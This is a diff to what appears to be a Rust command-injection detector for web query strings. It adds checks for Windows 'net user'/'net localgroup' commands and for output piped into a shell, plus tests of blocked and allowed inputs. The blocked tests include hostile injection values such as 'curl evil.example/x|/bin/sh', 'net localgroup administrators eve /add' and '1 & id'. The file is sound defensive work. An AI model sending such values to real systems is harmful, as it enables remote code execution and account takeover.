@@ -288,21 +288,30 @@ fn command_after_separator(s: &str) -> Option<String> {
         let rest = rest.trim_start_matches(['|', '&']);
         let word = first_word(rest);
         if is_command(word) {
-            // `Tom & Jerry`: a lone `&` between ordinary words is prose;
+            // `Tom & Jerry`: a lone `&` before an ordinary word is prose;
             // commands on either side of `&` need an argument or an end.
-            // Prose does not start with `&` (`& net user` does).
             let after = rest.trim_start()[word.len()..].trim_start();
-            let prose_and = sep == '&'
-                && !s[..at].trim().is_empty()
-                && !s[..at].ends_with('&')
-                && after.chars().next().is_some_and(char::is_alphabetic)
-                && !after.starts_with('-');
+            let words_follow = after.chars().next().is_some_and(char::is_alphabetic)
+                && !after.starts_with('-')
+                && !windows_net_command(word, after);
+            // `Gifts & more`: an everyday word (not `id`, `ls`) ending prose.
+            let ends_prose =
+                after.is_empty() && !s[..at].trim().is_empty() && word.len() >= 4 && EVERYDAY_WORDS.contains(&word);
+            let prose_and = sep == '&' && !s[..at].ends_with('&') && (words_follow || ends_prose);
             if !prose_and || word.contains('/') {
                 return Some(word.to_owned());
             }
         }
     }
     None
+}
+
+/// Windows `net` with a subcommand that reads or changes accounts, groups,
+/// shares or sessions (`net user`, `net localgroup administrators`): an
+/// attacker's first steps, and not how anyone words a shopping search.
+fn windows_net_command(word: &str, after: &str) -> bool {
+    const SUBCOMMANDS: &[&str] = &["user", "users", "localgroup", "group", "share", "session", "accounts"];
+    word == "net" && SUBCOMMANDS.contains(&first_word(after))
 }
 
 /// A command at the very start, with what a command takes: a path, a
@@ -331,7 +340,7 @@ fn command_with_arguments(s: &str) -> Option<String> {
         base.contains(['-', '_']) || word.trim_end_matches(['.']).ends_with(|c: char| c.is_ascii_digit());
     let distinctive = !EVERYDAY_WORDS.contains(&base) && (rest.is_empty() || shell_shaped || unusual_name);
     let wrapped = WRAPPERS.contains(&base) && is_command(first_word(rest));
-    (argument || distinctive || wrapped).then(|| word.to_owned())
+    (argument || distinctive || wrapped || windows_net_command(base, rest)).then(|| word.to_owned())
 }
 
 /// cmd.exe control flow: `for %x in (set) do …` (with `/f` options, odd
@@ -380,6 +389,16 @@ fn shell_tricks(s: &str) -> Option<&'static str> {
     }
     let glob_path = s.starts_with('/') && s.contains('[') && s.contains(']') && s.matches('/').count() >= 2;
     glob_path.then_some("glob")
+}
+
+/// `… | sh`, `…|bash -s`: output piped into a shell (the shell's name a
+/// whole word: "Books | Shelves" is a breadcrumb).
+fn pipes_to_shell(s: &str) -> bool {
+    s.match_indices('|').any(|(at, _)| {
+        let shell = first_word(&s[at + 1..]);
+        let base = shell.rsplit('/').next().unwrap_or(shell);
+        matches!(base, "sh" | "bash" | "zsh" | "dash" | "ksh")
+    })
 }
 
 /// `{l,-lh}s`, `c{a,ou}nt`: brace expansion spelling a command.
@@ -457,7 +476,7 @@ pub fn check(values: &[Value<'_>], out: &mut Vec<Finding>) {
         if let Some(what) = shell_tricks(s) {
             out.push(finding("rce-shell-trick", v, what));
         }
-        if s.contains("| sh") || s.contains("|sh") || s.contains("| bash") || s.contains("|bash") {
+        if pipes_to_shell(s) {
             out.push(finding("rce-pipe-to-shell", v, s));
         }
     }
@@ -493,6 +512,10 @@ mod tests {
             "/?q=~%2B",
             "/?q=printf%20abc|base64%20-d|sh",
             "/?q=%26%20net%20user",
+            "/?q=net+localgroup+administrators+eve+/add",
+            "/?q=x+%7C+bash",
+            "/?q=curl+evil.example/x|/bin/sh",
+            "/?q=1+%26+id",
         ] {
             assert!(blocked(attack), "{attack}");
         }
@@ -514,7 +537,11 @@ mod tests {
             "/?q=good+for+you+in+(winter)+do+try",
             "/?q=time+to+brew",
             "/?q=echo+dot+speaker",
-            "/?q=fish+%26+net+user+guide",
+            "/?q=fish+%26+net+weight",
+            "/?q=Gifts+%26+more",
+            "/?q=Tools+%26+Time",
+            "/?q=Books+%7C+Shelves",
+            "/?q=wash+%7C+shower+gel",
         ] {
             assert!(!blocked(benign), "{benign}");
         }
